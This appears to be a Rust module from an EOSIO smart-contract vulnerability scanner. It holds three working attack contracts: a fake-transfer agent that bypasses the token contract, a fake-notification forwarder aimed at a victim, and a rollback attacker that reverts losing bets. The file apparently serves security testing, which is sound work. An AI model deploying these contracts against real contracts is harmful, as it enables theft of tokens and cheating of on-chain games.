//! Attack agent contracts deployed by the plugins.

use std::sync::Arc;

use crate::mcb::{assemble, ContractModule};
use crate::name::Name;

pub const AGENT_ACCOUNT: Name = Name::from_raw(0x59A0_A331_53C8_0000); // fakeagent
pub const NOTIFIER_ACCOUNT: Name = Name::from_raw(0x59A0_A9D3_2E5B_9570); // fakenotifier
pub const ROLLBACK_ACCOUNT: Name = Name::from_raw(0xB9CD_9800_0000_0000); // rbatk
pub const SENDER_ACCOUNT: Name = Name::from_raw(0xC2A6_955C_0000_0000); // sender

/// Calls the target's `transfer` action directly instead of going through
/// the token contract.
pub fn fakeagent() -> Arc<ContractModule> {
    agent(
        r#"
contract fakeagent
fn apply(3)
  load 0
  load 1
  ne
  br_if skip
  load 2
  const @attack
  eq
  br_if go
skip:
  return
go:
  const 0
  call_indirect
  return
fn attack(0)
  param 0
  const @transfer
  const @fakeagent
  param 0
  param 1
  param 2
  const 4
  host send_inline
  return
table attack
abi attack (name,asset,string)
apply apply
"#,
    )
}

/// Forwards every token transfer receipt it gets to `victim`.
pub fn fakenotifier(victim: Name) -> Arc<ContractModule> {
    agent(&format!(
        r#"
contract fakenotifier
fn apply(3)
  load 1
  const @eosio.token
  ne
  br_if skip
  load 2
  const @transfer
  ne
  br_if skip
  const 0
  call_indirect
skip:
  return
fn ontransfer(0)
  const @{victim}
  host require_recipient
  return
table ontransfer
apply apply
"#
    ))
}

/// Bets through an inline transfer and asserts that its balance grew,
/// rolling the whole transaction back when the bet lost.
pub fn rbatk() -> Arc<ContractModule> {
    agent(
        r#"
contract rbatk
fn apply(3)
  load 0
  load 1
  ne
  br_if skip
  load 2
  const @makebet
  eq
  br_if bet
  load 2
  const @check
  eq
  br_if chk
skip:
  return
bet:
  const 0
  call_indirect
  return
chk:
  const 1
  call_indirect
  return
fn makebet(0)
  const @rbatk
  host get_balance
  store 0
  const @eosio.token
  const @transfer
  const @rbatk
  param 0
  param 1
  param 2
  const 4
  host send_inline
  const @rbatk
  const @check
  load 0
  const 1
  host send_inline
  return
fn check(0)
  const @rbatk
  host get_balance
  param 0
  gt_s
  assertnz "rollback"
  return
table makebet check
abi makebet (name,asset,string)
abi check (i64)
apply apply
"#,
    )
}

fn agent(src: &str) -> Arc<ContractModule> {
    Arc::new(assemble(src).unwrap_or_else(|e| panic!("agent contract: {e}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn agents_assemble() {
        assert_eq!(fakeagent().name, AGENT_ACCOUNT);
        assert_eq!(fakenotifier(Name::lit("victim")).name, NOTIFIER_ACCOUNT);
        assert_eq!(rbatk().name, ROLLBACK_ACCOUNT);
        assert_eq!(SENDER_ACCOUNT, Name::lit("sender"));
    }
}
